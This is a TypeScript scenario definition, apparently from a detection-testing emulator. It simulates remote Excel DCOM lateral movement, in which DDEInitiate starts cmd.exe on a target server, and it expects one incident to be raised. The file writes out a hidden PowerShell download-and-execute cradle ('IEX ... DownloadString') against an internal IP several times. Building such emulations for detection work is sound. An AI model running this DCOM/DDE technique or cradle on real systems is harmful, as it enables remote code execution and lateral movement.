import { callServer, launchServer, psCommand, remoteStart, runCmd } from "../actions.js";
import { ALICE_ADMIN, PATHS, SRV_APP02, WKS01 } from "../estate.js";
import type { Scenario } from "../scenario.js";

export const EXCEL_EMBEDDING =
  '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /automation -Embedding';

export const remoteExcelDde: Scenario = {
  name: "remote-excel-dde",
  description:
    "Excel.Application from WKS01 to SRV-APP02, DDEInitiate('cmd', '/c ...'): EXCEL.EXE /automation -Embedding under DcomLaunch starts cmd.exe",
  kind: "attack",
  variant: "Excel-DDE",
  expect: { object: "Excel-DDE", outcome: "executed", observed_on: "both", incidents: 1 },
  loopback: false,
  hosts: [WKS01, SRV_APP02],
  generate(ctx) {
    const { client, target, activation } = remoteStart(
      ctx,
      WKS01,
      SRV_APP02,
      ALICE_ADMIN,
      psCommand(
        "$e=[activator]::CreateInstance([type]::GetTypeFromProgID('Excel.Application','SRV-APP02')); $e.DisplayAlerts=$false; $e.DDEInitiate('cmd','/c powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString(''http://10.0.10.21:8080/a'')')",
      ),
    );
    const excel = launchServer(ctx, target, activation.logon, PATHS.excel, EXCEL_EMBEDDING, 480);
    callServer(ctx, client, excel, 2900);
    const cmd = runCmd(
      ctx,
      excel,
      "/c powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://10.0.10.21:8080/a')",
      3150,
    );
    const ps = ctx.emu.startProcess(
      {
        parent: cmd,
        image: PATHS.powershell,
        commandLine:
          "powershell  -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://10.0.10.21:8080/a')",
      },
      ctx.at(3210),
    );
    ctx.emu.connection(
      {
        proc: ps,
        initiated: true,
        sourceIp: SRV_APP02.ip,
        sourcePort: 50000 + ctx.rng.int(0, 9000),
        sourceHostname: SRV_APP02.computer,
        destinationIp: WKS01.ip,
        destinationPort: 8080,
        destinationHostname: WKS01.computer,
      },
      ctx.at(3900),
    );
    return ctx.produced();
  },
};
